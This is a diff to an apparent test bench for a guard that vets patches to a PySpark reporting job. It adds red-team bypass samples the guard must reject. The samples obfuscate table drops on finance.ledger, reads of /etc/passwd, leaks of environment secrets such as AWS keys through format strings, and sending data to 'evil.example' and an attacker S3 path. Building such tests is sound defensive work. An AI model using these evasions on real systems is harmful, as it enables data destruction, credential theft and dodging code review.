@@ -213,6 +213,31 @@ REBOUND_ARGV = {
     "argv-method": ORIGINAL.replace("source_table, output_table = sys.argv[1], sys.argv[2]\n",
                                     "sys.argv.insert(2, 'finance.ledger')\nsource_table, output_table = "
                                     "sys.argv[1], sys.argv[2]\n"),
+    'rebind-t1': 'import os\nimport sys\n\nfrom pyspark.sql import SparkSession\nfrom pyspark.sql import functions as F\n\nsource_table, output_table = sys.argv[1], sys.argv[2]\nspark = SparkSession.builder.appName("orders-report").getOrCreate()\nmarker = os.path.join("/app/mount", "done")\n\norders = spark.table(source_table)\ndaily = orders.groupBy("order_date").agg(F.sum("amount").alias("revenue"))\ndaily.createOrReplaceTempView("daily")\nmatch \'finance.ledger\':\n    case output_table:\n        pass\nspark.sql(f"INSERT OVERWRITE TABLE {output_table} SELECT order_date, revenue FROM daily")\nprint(f"wrote {daily.count()} days to {output_table}")\nspark.stop()\n',
+    'rebind-t2': 'import os\nimport sys\n\nfrom pyspark.sql import SparkSession\nfrom pyspark.sql import functions as F\n\nsource_table, output_table = sys.argv[1], sys.argv[2]\nspark = SparkSession.builder.appName("orders-report").getOrCreate()\nmarker = os.path.join("/app/mount", "done")\n\norders = spark.table(source_table)\ndaily = orders.groupBy("order_date").agg(F.sum("amount").alias("revenue"))\ndaily.createOrReplaceTempView("daily")\ntry:\n    raise ValueError(\'finance.ledger\')\nexcept ValueError as output_table:\n    spark.sql(f"INSERT OVERWRITE TABLE {output_table} SELECT order_date, revenue FROM daily")\nprint(f"wrote {daily.count()} days to {output_table}")\nspark.stop()\n',
+    'rebind-t3': 'import os\nimport sys\n\nfrom pyspark.sql import SparkSession\nfrom pyspark.sql import functions as F\n\nargv = sys.argv\nargv[2] = \'finance.ledger\'\nsource_table, output_table = sys.argv[1], sys.argv[2]\nspark = SparkSession.builder.appName("orders-report").getOrCreate()\nmarker = os.path.join("/app/mount", "done")\n\norders = spark.table(source_table)\ndaily = orders.groupBy("order_date").agg(F.sum("amount").alias("revenue"))\ndaily.createOrReplaceTempView("daily")\nspark.sql(f"INSERT OVERWRITE TABLE {output_table} SELECT order_date, revenue FROM daily")\nprint(f"wrote {daily.count()} days to {output_table}")\nspark.stop()\n',
+}
+
+RED_TEAM_3 = {  # a fourth round (the crc-forged placeholders were made against the unsalted scheme)
+    'x1-pandas-string-dispatch-apply-to-csv-writes-evil-ba': 'p = spark.createDataFrame([("import os; os.system(\'id\')",)], [\'c\']).toPandas()\ntry:\n    p.apply(\'to_csv\', path_or_buf=\'\'.join(reversed(\'yp.dnekcab_live\')), index=False, header=False)\nexcept AttributeError:\n    pass\np.plot(backend=\'\'.join(reversed(\'dnekcab_live\')))',
+    'x2-pandas-plot-backend-imports-any-installed-module-b': "daily.toPandas().plot(backend='antigravity')",
+    'f1-f-string-format-spec-ignored-select-1-0-is-at-run': 'spark.sql(f"{\'SELECT 1 -- \':.0}DR{\'\':.0}OP TABLE finance.ledger")',
+    'f2-match-capture-rebinds-a-constant-not-counted-as-an': "q = 'SELECT 1'\nmatch ''.join(reversed('regdel.ecnanif ELBAT PORD')):\n    case q:\n        pass\nspark.sql(q)",
+    'f3-crc32-placeholder-forged-saveastable-expr-folding': "daily.limit(0).write.mode('overwrite').saveAsTable(['finance.ledger', 'caacaaaaaacccaaaaccaaaaaaaaccaacaaaaaaaaaaaaaaaa'][0])",
+    'f4-crc32-placeholder-forged-insert-overwrite-finance': 'spark.sql(f"INSERT OVERWRITE TABLE {[\'finance.ledger\', \'caacaaaaaacccaaaaccaaaaaaaaccaacaaaaaaaaaaaaaaaa\'][0]} SELECT order_date, revenue FROM daily")',
+    'f5-crc32-placeholder-forged-spark-read-text-etc-passw': "spark.read.text([''.join(reversed('dwssap/cte/')), 'cacaaaccaacccccaaaaacacacccaaacaaaaaaaaaaaaaaaaa'][0]).show(truncate=False)",
+    's1-spark-sql-kwargs-runs-str-formatter-on-the-query-f': 'def f(): pass\nspark.sql(\'SELECT "{f.__globals__[os].environ[AWS_SECRET_ACCESS_KEY]}" AS e\', f=f).show(truncate=False)',
+    's2-format-template-reached-through-a-write-row-field': "from pyspark.sql import Row\ndef f(): pass\nprint(Row(write='{0.__globals__[os].environ}').write.format(f))",
+    's3-same-through-a-class-attribute-named-write': "class A:\n    write = '{0.__globals__[os].environ}'\ndef f(): pass\nprint(A.write.format(f))",
+    'd1-catalog-dropview-drops-any-persistent-view': "spark.catalog.dropView('finance.ledger_v')",
+    'd2-catalog-recoverpartitions-alters-another-table-s-p': "spark.catalog.recoverPartitions('finance.ledger')",
+    'd3-catalog-analyzetable-alters-another-table-s-statis': "spark.catalog.analyzeTable('finance.ledger')",
+    'd4-catalog-createtable-own-positional-path-text-exter': "spark.catalog.createTable(output_table, ''.join(reversed('cte/:elif')), 'text')\nspark.table(output_table).show()",
+    'd5-catalog-createexternaltable-own-positional-path-te': "spark.catalog.createExternalTable(output_table, ''.join(reversed('cte/:elif')), 'text')",
+    'd6-writeto-own-tableproperty-location-url-runtime-eff': "daily.writeTo(output_table).using('parquet').tableProperty('location', ''.join(reversed('x/rekcatta//:a3s'))).createOrReplace()",
+    'd7-cache-table-name-as-select-shadows-a-table-for-the': "spark.sql(f'CACHE TABLE {source_table} AS SELECT 1 AS x')",
+    'k1-spark-conf-unset-of-any-key-remedy-only-redaction': "spark.conf.unset('spark.sql.ansi.enabled')",
+    'k2-builder-remote-config-spark-remote-a-connect-sessi': "s2 = SparkSession.builder.remote('sc://evil.example:15002').create()\ns2.createDataFrame(orders.collect()).show()",
 }
 
 UNSAFE_CONFIG = {
@@ -229,7 +254,7 @@ UNSAFE_CONFIG = {
 }
 FAMILIES = {"os access": OS_ACCESS, "spark commands and host files": SPARK_COMMANDS,
             "table destruction": DESTRUCTION, "red team against the allowlist": RED_TEAM,
-            "red team, third round": RED_TEAM_2}
+            "red team, third round": RED_TEAM_2, "red team, fourth round": RED_TEAM_3}
 
 ORDINARY_EDITS = {
     "new-column": 'daily = daily.withColumn("revenue_k", F.round(F.col("revenue") / 1000, 2))',
@@ -315,7 +340,7 @@ def run_guard_bench() -> GuardBench:
             bench.passed_unsafe.append(f"rebound argv: {name}")
         else:
             rejected += 1
-    bench.rows.append(("unsafe code: sys.argv rebound before use (rejected)", len(REBOUND_ARGV), rejected))
+    bench.rows.append(("unsafe code: table names rebound before use (rejected)", len(REBOUND_ARGV), rejected))
     rejected = 0
     for name, conf in sorted(UNSAFE_CONFIG.items()):
         if _timed(ORIGINAL, Patch(kind="config", conf_changes=conf), bench):
